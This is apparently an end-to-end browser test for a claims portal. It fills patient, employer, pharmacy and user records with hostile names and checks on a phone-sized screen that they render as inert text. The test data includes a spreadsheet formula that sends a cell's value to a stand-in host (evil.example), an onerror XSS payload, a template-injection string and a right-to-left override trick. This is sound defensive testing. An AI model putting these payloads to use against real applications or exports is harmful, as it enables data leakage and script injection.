import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { patientTabs } from '#features/claims/patient-tabs.ts'
import { normalizeForSearch } from '#platform/text/search-form.ts'
import { tooWide } from '#testing/kit/too-wide.ts'
import { startPortalInBrowser, type PortalInBrowser, type Visit } from '#testing/portal-in-browser.ts'

// Every screen that shows a person, with names somebody chose to do harm, on a phone: nothing runs, nothing runs out of the
// side of the page, and the name stands there as text.

/** Markup, a formula, quotes, a word without a blank longer than a phone is wide. */
const first = `=HYPERLINK("http://evil.example?"&A1)<img src=x onerror=alert(1)>{{7*7}}${'W'.repeat(40)}`
/** Letters from right to left and a mark that turns the order around, marks that pile up, a picture sign of five, an escaped NUL. */
const last = `O'Neil \u202Egpj.exe שלום مرحبا Z\u0351\u0352\u0353\u0354a\u0315lgo 👩🏽‍🚒 %00\\u0000 "><b>`
const long = `${first} ${last}`
/** Part of the name that stands on a page whatever is done to the rest. */
const seen = 'W'.repeat(40)

type Known = {
  mc: string
  sub: string
  id: string
  number: string
  claimant: string
  owner: string
  request: string
  decided: string
  fill: string
}
let portal: PortalInBrowser
let visit: Visit
let page: Page
let known: Known
const dialogs: string[] = []

beforeAll(async () => {
  portal = await startPortalInBrowser()
  const { rows } = await portal.db.query<Known>(
    `select c.mc, c.sub_carrier as sub, c.id, c.claim_number as number, c.claimant_id as claimant, c.owner_id as owner,
       a.id as request, d.id as decided, x.id as fill
       from rx_authorization a join wc_claim c on c.mc = a.mc and c.id = a.stratus_claim_id
       join lateral (select x.id from rx_transaction x where x.mc = c.mc and x.stratus_claim_id = c.id and x.status = 'P'
        and x.fill_date > current_date - 120 limit 1) x on true
       join lateral (select d.id from rx_authorization d where d.mc = c.mc and d.stratus_claim_id = c.id and d.status_id >= 30 limit 1) d on true
      where a.mc = 'NWM' and a.status_id between 20 and 29 and c.status = 'OPEN'
      order by exists (select from sms_campaign g where g.mc = c.mc and g.claimant_id = c.claimant_id and g.until is null) desc, c.claim_number
      limit 1`,
  )
  known = rows[0]!
  const { db } = portal
  // Which claims have a contact depends on the day: this one gets one.
  await db.query(
    `update claim_contact_note set stratus_claim_id = $2, sub_carrier = $3
      where mc = $1 and id = (select id from claim_contact_note where mc = $1 order by id limit 1)`,
    [known.mc, known.id, known.sub],
  )
  await db.query(
    'update claimant set first_name = $1, last_name = $2, address1 = $3, city = $3, first_folded = $4, last_folded = $5 where id = $6',
    [first, last, long, normalizeForSearch(first), normalizeForSearch(last), known.claimant],
  )
  await db.query('update wc_claim set injury = $1 where id = $2', [long, known.id])
  await db.query('update employer set name = $1 where mc = $2', [long, known.mc])
  await db.query('update pharmacy set name = $1', [long])
  await db.query('update practitioner set first_name = $1, last_name = $2', [first, last])
  await db.query('update app_user set first_name = $1, last_name = $2 where username = $3', [first, last, 'dana.ruiz'])
  await db.query(
    'update claim_contact_note set text = $1, caller_name = left($1, 120), agent_name = $1 where stratus_claim_id = $2',
    [long, known.id],
  )
  await db.query(
    `insert into claim_contact (mc, id, version, sub_carrier, stratus_claim_id, name, relation, phone, email, reach, reach_note, speaks_for_patient, since,
       changed_at, changed_by_name) values ($1, gen_random_uuid(), 1, $2, $3, left($4, 120), 'SIBLING', '5595550119', left($5, 40) || '@x.example',
       '{"call":"NO","text":"YES","email":"YES","mail":"UNSAID"}', left($4, 200), true, '2025-02-03', now(), $4)`,
    [known.mc, known.sub, known.id, long, 'W'.repeat(40)],
  )
  visit = await portal.visitAs('sam.okafor', { mc: known.mc, viewport: { width: 390, height: 844 } })
  page = visit.page
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
})
afterAll(() => portal.stop())

/** Waits until the page shows what it loads, and not its skeleton. */
const shown = async () => {
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  await visit.quiet()
  await page.waitForFunction(() => !document.querySelector('main [aria-busy="true"]'))
  await visit.quiet()
}

test('A supervisor reads every page of a person with a hostile name on a phone', async () => {
  const of = `/patients/${known.mc}/${known.sub}/${known.id}`
  const paths = [
    ...patientTabs.map((tab) => `${of}/${tab}`),
    `/authorizations/request/${known.request}`,
    `/authorizations/request/${known.decided}`,
    '/home',
    `/authorizations?view=all&owner=${known.owner}`,
    `/create-authorization/${known.mc}/${known.sub}/${known.id}`,
    '/team',
  ]
  const look = async (place: string) => {
    await expect.poll(() => page.locator('body').innerText(), { message: place }).toContain(seen)
    await expect.poll(() => tooWide(page), { message: place }).toEqual([])
    await expect.poll(() => page.locator('main img[src="x"], main b:empty').count(), { message: place }).toBe(0)
    expect(await page.title()).not.toContain(seen)
    const folder = process.env['PICTURES']
    if (folder) await page.screenshot({ path: join(folder, `hostile${place.replaceAll(/[/?]/g, '-')}.png`) })
  }
  for (const path of paths) {
    await page.goto(portal.origin + path)
    await shown()
    await look(path)
  }
  // Found by the name itself, as it is written.
  for (const [path, name] of [
    ['/patients', 'Find a patient'],
    ['/pharmacies', 'Find pharmacies'],
    ['/practitioners', 'Find prescribers'],
    ['/transactions', 'Find transactions'],
  ] as const) {
    await page.goto(portal.origin + path)
    if (path === '/patients') await page.getByRole('radio', { name: 'Patient Last Name' }).check()
    if (path === '/pharmacies') await page.getByLabel('Find pharmacies by').selectOption('name')
    const field = page.getByRole('search', { name }).getByRole('searchbox').or(page.getByRole('searchbox')).first()
    await field.fill(path === '/transactions' ? known.number : path === '/pharmacies' ? '=HYPERLINK("http' : `O'Neil`)
    await field.press('Enter')
    await page.getByText(seen).first().waitFor()
    await shown()
    await look(path)
  }
  expect(dialogs).toEqual([])
  expect(visit.complaints).toEqual([])
})
